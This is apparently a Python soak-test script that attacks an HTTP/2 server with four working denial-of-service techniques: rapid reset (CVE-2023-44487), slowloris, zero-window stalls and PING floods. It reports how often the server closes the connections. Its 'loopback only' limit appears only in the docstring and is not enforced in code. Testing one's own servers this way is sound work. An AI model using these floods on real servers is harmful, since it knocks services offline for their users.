#!/usr/bin/env python3
"""Hostile HTTP/2 clients for the soak test (scripts/soak), loopback only.

    attack.py HOST:PORT KIND SECONDS [--tls]

KIND:
  rapid-reset   HEADERS then RST_STREAM, as fast as possible (CVE-2023-44487)
  slowloris     connections that send half a preface and hold it
  zero-window   pages requested with a zero receive window, never read
  ping-flood    PINGs and SETTINGS as fast as possible

Prints one line: what was sent and how often the server closed the
connection (which is the right answer to a flood). Exits 0 unless it could
not connect at all.
"""

import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(**values):
    ids = {"initial_window_size": 4, "enable_push": 2}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def request_block(authority, path="/"):
    # HPACK: :method GET (2), :scheme https (7), :path literal (4), :authority literal (1).
    def literal(index, value):
        v = value.encode()
        return bytes([index]) + bytes([len(v)]) + v  # literal without indexing, short values
    return b"\x82\x87" + literal(0x04, path) + literal(0x01, authority)


def connect(addr, tls):
    host, port = addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=5)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname="localhost")
    return sock


def drain(sock):
    """Read whatever is there without blocking; False once the server closed."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return False
    except (BlockingIOError, ssl.SSLWantReadError):
        return True
    except OSError:
        return False
    finally:
        sock.setblocking(True)


def rapid_reset(addr, tls, deadline):
    sent = closed = 0
    authority = "localhost"
    while time.time() < deadline:
        try:
            s = connect(addr, tls)
            s.sendall(PREFACE + settings())
            stream = 1
            while time.time() < deadline and stream < 20001:
                burst = b"".join(
                    frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block(authority))
                    + frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
                    for sid in range(stream, stream + 200, 2)
                )
                s.sendall(burst)
                sent += 100
                stream += 200
                if not drain(s):
                    closed += 1
                    break
            s.close()
        except OSError:
            closed += 1
            time.sleep(0.05)
    return f"rapid-reset: {sent} HEADERS+RST pairs, server closed {closed} connection(s)"


def slowloris(addr, tls, deadline):
    held, closed = [], 0
    while time.time() < deadline:
        try:
            s = connect(addr, tls)
            s.sendall(PREFACE[:10])
            held.append(s)
        except OSError:
            closed += 1
        if len(held) >= 50:
            alive = []
            for s in held:
                if drain(s):
                    alive.append(s)
                else:
                    closed += 1
                    s.close()
            held = alive
        time.sleep(0.1)
    for s in held:
        s.close()
    return f"slowloris: half-prefaces held, server closed {closed} connection(s)"


def zero_window(addr, tls, deadline):
    pages = closed = 0
    conns = []
    while time.time() < deadline:
        try:
            s = connect(addr, tls)
            s.sendall(PREFACE + settings(initial_window_size=0, enable_push=1))
            s.sendall(b"".join(
                frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block("localhost"))
                for sid in range(1, 41, 2)))
            pages += 20
            conns.append(s)
        except OSError:
            closed += 1
        if len(conns) > 20:
            conns.pop(0).close()
        time.sleep(0.2)
    for s in conns:
        s.close()
    return f"zero-window: {pages} pages requested and never read, {closed} refused"


def ping_flood(addr, tls, deadline):
    sent = closed = 0
    while time.time() < deadline:
        try:
            s = connect(addr, tls)
            s.sendall(PREFACE + settings())
            while time.time() < deadline:
                s.sendall(b"".join(frame(PING, 0, 0, b"12345678") + settings() for _ in range(500)))
                sent += 500
                if not drain(s):
                    closed += 1
                    break
            s.close()
        except OSError:
            closed += 1
            time.sleep(0.05)
    return f"ping-flood: {sent} PING+SETTINGS, server closed {closed} connection(s)"


def main():
    if len(sys.argv) < 4:
        sys.exit(__doc__)
    addr, kind, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    tls = "--tls" in sys.argv
    attacks = {"rapid-reset": rapid_reset, "slowloris": slowloris,
               "zero-window": zero_window, "ping-flood": ping_flood}
    if kind not in attacks:
        sys.exit(f"attack.py: unknown kind {kind!r}; one of {', '.join(attacks)}")
    try:
        connect(addr, tls).close()
    except OSError as e:
        sys.exit(f"attack.py: cannot connect to {addr}: {e}")
    print(attacks[kind](addr, tls, time.time() + seconds), flush=True)


if __name__ == "__main__":
    main()
